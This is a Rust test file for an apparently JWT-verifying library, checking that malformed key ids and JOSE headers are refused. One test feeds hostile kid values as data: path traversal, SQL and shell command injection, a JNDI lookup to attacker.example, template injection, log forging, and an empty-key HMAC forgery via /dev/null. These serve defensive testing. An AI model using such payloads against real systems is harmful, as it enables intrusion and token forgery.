//! Key id and JOSE header.

use admit::issuer::Issuer;
use admit_tests::fixture::{NOW, claims, issuer, with};
use admit_tests::key_server::{Answer, KeyServer};
use serde_json::json;

use super::{Row, check, encode, header, hmac_with, row, with_header, with_raw_header};

#[test]
pub(super) fn b3_key_ids_are_exact() {
    let kid = issuer().kid();
    let swapped: String = kid
        .chars()
        .map(|c| if c.is_lowercase() { c.to_ascii_uppercase() } else { c.to_ascii_lowercase() })
        .collect();
    let mut rows = vec![row("absent", with_header(json!({"kid": null})), "token.header")];
    for value in ["null", "1", "[]", "{}", "true", "\"\""] {
        let header = format!(r#"{{"alg":"RS256","kid":{value}}}"#);
        rows.push(row(value, with_raw_header(header), "token.header"));
    }
    let array = format!(r#"{{"alg":"RS256","kid":["{kid}"]}}"#);
    rows.push(row("array of the right one", with_raw_header(array), "token.header"));
    let twice = format!(r#"{{"alg":"RS256","kid":"{kid}","kid":"{kid}"}}"#);
    rows.push(row("twice", with_raw_header(twice), "token.header"));
    let escaped = format!(r#"{{"alg":"RS256","kid":"{kid}","k\u0069d":"{kid}"}}"#);
    rows.push(row("twice, once escaped", with_raw_header(escaped), "token.header"));
    let long = "k".repeat(64 * 1024);
    rows.push(row("64 KiB", with_header(json!({"kid": long})), "token.too_large"));
    rows.push(row("16 KiB", with_header(json!({"kid": &long[..16_384]})), "token.header"));
    for (name, value) in [
        ("letter case changed", swapped),
        ("space behind", format!("{kid} ")),
        ("space in front", format!(" {kid}")),
        ("NUL behind", format!("{kid}\0")),
        ("prefix", kid[..20].to_owned()),
        ("longer", format!("{kid}A")),
        ("star", "*".to_owned()),
        ("comma list", format!("{kid},{kid}")),
    ] {
        rows.push(row(name, with_header(json!({"kid": value})), "token.key"));
    }
    check(rows);
}

#[test]
pub(super) fn b3_key_ids_are_never_interpreted() {
    let rows = [
        "../../../../etc/passwd",
        "/dev/null",
        "' UNION SELECT 'secret'--",
        "key; touch /tmp/x",
        "`id`",
        "$(id)",
        "https://attacker.example/keys",
        "{{7*7}}",
        "${jndi:ldap://attacker.example/a}",
        "x\r\nlevel=error msg=forged",
        "\u{1b}[2J\u{1b}[31m",
        "\u{202e}gnp.exe",
    ]
    .into_iter()
    .map(|kid| row(kid, with_header(json!({"kid": kid})), "token.key"))
    .collect();
    check(rows);
    let devnull = with(header(), json!({"kid": "/dev/null", "alg": "HS256"})).to_string();
    let input = format!("{}.{}", encode(devnull), encode(claims().to_string()));
    let signature = hmac_with(Vec::new())(input.as_bytes());
    let token = format!("{input}.{}", encode(signature));
    check(vec![row("/dev/null with an empty HMAC key", token, "token.algorithm")]);
}

#[test]
pub(super) fn b3_referenced_keys_are_refused_without_a_call() {
    let server = KeyServer::start(Answer::json(&Issuer::generate().unwrap().jwk_set()));
    let address = server.url("/keys");
    check(vec![
        row("jku", with_header(json!({"jku": address})), "token.header"),
        row("x5u", with_header(json!({"x5u": address})), "token.header"),
        row(
            "jku and a stranger's kid",
            with_header(json!({"jku": address, "kid": "x"})),
            "token.header",
        ),
    ]);
    assert_eq!(server.requests(), Vec::<String>::new());
}

#[test]
pub(super) fn b3_headers() {
    let kid = issuer().kid();
    let code = "token.header";
    let mut rows: Vec<Row> = [
        json!({"crit": ["x"], "x": 1}),
        json!({"crit": []}),
        json!({"crit": "b64", "b64": true}),
        json!({"crit": [1, 2]}),
        json!({"crit": ["exp"], "exp": NOW}),
        json!({"crit": ["b64"], "b64": false}),
        json!({"b64": false}),
        json!({"b64": true}),
        json!({"typ": "at+jwt"}),
        json!({"typ": "dpop+jwt"}),
        json!({"typ": "logout+jwt"}),
        json!({"typ": "secevent+jwt"}),
        json!({"typ": ""}),
        json!({"typ": 1}),
    ]
    .into_iter()
    .map(|changes| row(changes.to_string(), with_header(changes), code))
    .collect();
    let crit_null = format!(r#"{{"alg":"RS256","kid":"{kid}","crit":null}}"#);
    rows.push(row("crit null", with_raw_header(crit_null), code));
    let whole = header().to_string();
    let utf16: Vec<u8> = whole.encode_utf16().flat_map(u16::to_be_bytes).collect();
    let deep = format!(r#"{{"alg":"RS256","kid":"{kid}","x":{}"#, "[".repeat(20_000));
    let large = format!(r#"{{"alg":"RS256","kid":"{kid}","x":"{}"}}"#, "x".repeat(40_000));
    for (name, header) in [
        ("array", format!("[{whole}]").into_bytes()),
        ("null", b"null".to_vec()),
        ("text", b"\"RS256\"".to_vec()),
        ("two objects", format!("{whole}{whole}").into_bytes()),
        ("text behind", format!("{whole}x").into_bytes()),
        ("BOM", format!("\u{feff}{whole}").into_bytes()),
        ("UTF-16", utf16),
        ("bad UTF-8", whole.replace("JWT", "J\0T").replace('\0', "\u{fffd}").into_bytes()),
        ("alg twice", format!(r#"{{"alg":"RS256","alg":"RS256","kid":"{kid}"}}"#).into_bytes()),
        ("20,000 levels", deep.into_bytes()),
        ("40 kB", large.into_bytes()),
        ("comment", format!("{whole}/**/").into_bytes()),
        ("single quotes", whole.replace('"', "'").into_bytes()),
    ] {
        rows.push(row(name, with_raw_header(header), code));
    }
    let mut invalid = whole.clone().into_bytes();
    let place = whole.find("JWT").unwrap();
    invalid[place] = 0xff;
    rows.push(row("invalid UTF-8", with_raw_header(invalid), code));
    let huge = format!(r#"{{"alg":"RS256","kid":"{kid}","x":"{}"}}"#, "x".repeat(100_000));
    rows.push(row("100 kB", with_raw_header(huge), "token.too_large"));
    rows.push(row("typ in lower case", with_header(json!({"typ": "jwt"})), "ok"));
    rows.push(row("no typ", with_header(json!({"typ": null})), "ok"));
    rows.push(row("unknown parameters", with_header(json!({"nonce": "n", "x5t": "t"})), "ok"));
    check(rows);
}
